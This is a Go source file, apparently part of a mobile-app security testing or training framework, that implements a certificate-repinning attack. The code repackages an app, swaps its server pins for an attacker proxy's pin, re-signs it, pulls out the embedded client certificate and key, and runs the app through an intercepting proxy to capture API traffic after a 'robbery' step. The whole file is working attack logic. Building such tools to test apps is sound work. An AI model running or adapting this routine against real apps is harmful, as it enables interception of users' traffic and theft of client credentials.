package attacker

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"strings"

	"keyladder/mobileclient/attacker/network"
	"keyladder/mobileclient/device"
	"keyladder/stages/catalog"
)

// repin replaces the server's pins in the package by the pin of the attacker's proxy.
// The app then insists on the proxy as it did on the server. The client certificate,
// which the API wants to see, is in the package too, and the proxy shows it.
//
//keyladder:code attack-repin
func repin(ctx context.Context, g *Given) (Result, error) {
	ca, err := network.NewAuthority()
	if err != nil {
		return Result{}, err
	}
	ownPin, err := ca.Pin()
	if err != nil {
		return Result{}, err
	}
	path, err := g.repackage(func(settings map[string]any) error {
		if pins, ok := settings["SERVER_PINS"].([]any); !ok || len(pins) == 0 {
			return &refusal{check: catalog.CheckHidden, obstacle: "there are no pins in the package that could be replaced"}
		}
		settings["SERVER_PINS"] = []string{string(ownPin)}
		return nil
	})
	if err != nil {
		return stopped(err)
	}
	g.Say("Took the package apart, put the pin of our own proxy into SERVER_PINS, and signed it with a key of our own.")
	found, err := g.searchPackage()
	if err != nil {
		return Result{}, err
	}
	var certificate *tls.Certificate
	if pairs := found.Certificates.Pairs(); len(pairs) > 0 {
		certificate = &pairs[0]
		g.Say("Found the app's client certificate and its key in the package; the proxy will show it to the API.")
	}
	uplink, err := g.uplink(certificate)
	if err != nil {
		return Result{}, err
	}
	proxy, err := network.NewInterceptor(uplink, ca)
	if err != nil {
		return Result{}, err
	}
	defer proxy.Close()
	phone, err := g.open(ctx, path, func(d *device.Device) error {
		return errors.Join(sideload(d), d.SetNetwork(proxy.Network()), d.Trust(ca.PEM()))
	})
	if err != nil {
		return Result{}, err
	}
	defer phone.close()
	g.Say("Installed it on our own phone, which trusts our own CA and goes through our own proxy.")
	if err := phone.signIn(ctx); err != nil {
		return stopped(err)
	}
	from, _, err := phone.robbery(ctx)
	if err != nil {
		return stopped(err)
	}
	if _, err := shown(phone.app.Transfers(ctx, from.ID)); err != nil {
		return stopped(err)
	}
	var data strings.Builder
	for _, call := range proxy.Calls() {
		g.Say("The proxy reads: %s %s, answered with %d and %d bytes.", call.Request.Method, call.Request.URL.Path, call.Status, len(call.Received))
		data.Write(call.Received)
		data.WriteByte('\n')
	}
	if data.Len() == 0 {
		return Result{}, fmt.Errorf("the app works, but nothing came through the proxy")
	}
	return Result{Claim: true, Data: data.String()}, nil
}
